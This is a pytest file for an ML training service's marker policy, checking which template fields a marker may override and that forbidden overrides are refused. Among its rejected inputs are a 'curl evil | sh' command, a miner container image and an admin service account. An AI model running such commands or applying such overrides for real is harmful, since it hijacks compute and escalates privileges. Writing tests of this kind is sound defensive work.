"""What a marker may override of its template (issue 24, point 7): the template's `marker_may_set`, by default the
dataset's fields, hyperparameters, labels and display name; everything else is refused, naming field and rule."""

from __future__ import annotations

import pytest

from functions.intake.marker_policy import DEFAULT_MAY_SET, changed_fields, request_fields, template_policy
from functions.untrusted.documents import DocumentInvalid

RULE = "gs://data/churn/"
FOLDER = "gs://data/churn/d1/"
TEMPLATE = {
    "dataset": {"target": "churned"},
    "trainer": {"builtin": "tabular", "hyperparameters": {"epochs": 5}},
    "resources": {"machine_type": "a2-highgpu-2g"},
}


def problems_of(overrides: dict, template: dict | None = None) -> list[str]:
    body, policy = template_policy(template or TEMPLATE, RULE)
    return policy.problems(body, overrides, FOLDER)


def test_by_default_a_marker_sets_data_fields_hyperparameters_labels_and_its_display_name():
    overrides = {
        "dataset": {"target": "left", "format": "csv", "validation_fraction": 0.1},
        "trainer": {"hyperparameters": {"epochs": 9, "hidden_sizes": [8]}},
        "labels": {"team": "growth"},
        "display_name": "nightly churn",
        "api_version": "trainctl/v1",
    }
    assert problems_of(overrides) == []


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"trainer": {"image": "us-docker.pkg.dev/p/r/miner:1"}}, "trainer.image"),
        ({"trainer": {"command": ["bash", "-c", "curl evil | sh"]}}, "trainer.command"),
        ({"trainer": {"env": {"X": "1"}}}, "trainer.env.X"),
        ({"trainer": "replaced"}, "trainer"),
        ({"output_dir": "gs://control/runs/victim/"}, "output_dir"),
        ({"service_account": "admin@p.iam.gserviceaccount.com"}, "service_account"),
        ({"request_id": "someone-elses-run"}, "request_id"),
        ({"resources": {"replica_count": 16}}, "resources.replica_count"),
        ({"marker_may_set": ["trainer"]}, "marker_may_set"),
    ],
)
def test_a_marker_may_not_set_what_its_default_template_keeps(overrides, field):
    """Guards issue 24, point 7: before, a marker's content was merged onto its template whatever it set."""
    (problem,) = problems_of(overrides)
    assert problem.startswith(f"{field}: may not be set by a marker under rule {RULE}; ")
    assert problem.endswith(f"lets markers set: {', '.join(DEFAULT_MAY_SET)} (the template's `marker_may_set` decides)")


def test_a_template_that_says_so_lets_markers_set_more():
    template = {**TEMPLATE, "marker_may_set": ["trainer.command", "output_dir", "service_account", "request_id"]}
    overrides = {
        "trainer": {"command": ["python", "-m", "x"]},
        "output_dir": "gs://out/x/",
        "service_account": "a@p.iam.gserviceaccount.com",
        "request_id": "named-1",
    }
    assert problems_of(overrides, template) == []
    # Declaring replaces the default list: this template does not let markers set labels.
    (problem,) = problems_of({"labels": {"a": "b"}}, template)
    assert "lets markers set: trainer.command, output_dir, service_account, request_id" in problem


def test_an_empty_declaration_lets_markers_set_nothing():
    template = {**TEMPLATE, "marker_may_set": []}
    assert problems_of({}, template) == []
    assert problems_of({"display_name": "x"}, template) == [
        f"display_name: may not be set by a marker under rule {RULE}; this template lets markers set: nothing "
        "(the template's `marker_may_set` decides)"
    ]


def test_restating_the_templates_value_changes_nothing_and_is_allowed():
    assert problems_of({"trainer": {"builtin": "tabular"}, "resources": {"machine_type": "a2-highgpu-2g"}}) == []
    assert problems_of({"dataset": {"uri": FOLDER}}) == []


def test_the_dataset_is_always_the_markers_folder():
    (problem,) = problems_of({"dataset": {"uri": "gs://elsewhere/secret/"}})
    assert problem.startswith(f"dataset.uri: a marker's dataset is always its own folder ({FOLDER})")


def test_the_declaration_is_removed_before_the_request_is_parsed():
    body, policy = template_policy({**TEMPLATE, "marker_may_set": ["labels"]}, RULE)
    assert body == TEMPLATE and policy.may_set == (("labels",),)


@pytest.mark.parametrize(
    ("declared", "named"),
    [
        ("labels", "must be a list of request fields"),
        ([1], "must be a list of request fields"),
        (["trainer.hyperparameter"], "'trainer.hyperparameter' is not a field of a trainctl/v1 request"),
        (["labels.team"], "'labels.team' is not a field"),
        (["fallbacks.resources"], "'fallbacks.resources' is not a field"),
        (["dataset.uri"], "dataset.uri is always the marker's folder"),
    ],
)
def test_a_bad_declaration_is_an_error_naming_the_rule(declared, named):
    with pytest.raises(DocumentInvalid) as raised:
        template_policy({**TEMPLATE, "marker_may_set": declared}, RULE)
    assert str(raised.value).startswith(f"the template of rule {RULE}: marker_may_set")
    assert named in str(raised.value)


def test_every_field_a_template_may_name_is_a_request_field_or_a_section_of_one():
    fields = request_fields()
    for path in ("request_id", "output_dir", "trainer.image", "trainer.hyperparameters.epochs", "scheduling.timeout"):
        assert tuple(path.split(".")) in fields
    assert ("resources", "boot_disk", "size_gb") in fields
    assert ("labels", "team") not in fields and ("fallbacks", "resources") not in fields


def test_changed_fields_follow_the_merge():
    template = {"trainer": {"builtin": "tabular", "hyperparameters": {"epochs": 5}}, "labels": {"a": "1"}}
    overrides = {"trainer": {"hyperparameters": {"epochs": 5, "seed": 1}}, "labels": "flat", "dataset": {}}
    assert changed_fields(template, overrides) == [
        (("trainer", "hyperparameters", "seed"), 1),
        (("labels",), "flat"),
        (("dataset",), {}),
    ]


def test_the_demos_markers_ask_only_for_what_the_local_default_template_lets_them():
    """`make demo`'s markers ask for 2 nodes and name a model: the local stack's default rule lets markers set
    resources, scheduling and the model block besides the default fields (and restating `builtin: tabular` changes
    nothing)."""
    from local.stack import DEFAULT_TEMPLATE
    from trainctl.demo import PARTITIONS, marker_overrides

    body, policy = template_policy(DEFAULT_TEMPLATE, "gs://trainctl-local-trainctl-data/")
    for partition in PARTITIONS:
        folder = f"gs://trainctl-local-trainctl-data/{partition.folder}/"
        reference = "gs://trainctl-local-trainctl-data/demo/breast-cancer/reference/"
        assert policy.problems(body, marker_overrides(partition, reference), folder) == []
    assert not policy.allows(("trainer", "image")) and not policy.allows(("output_dir",))
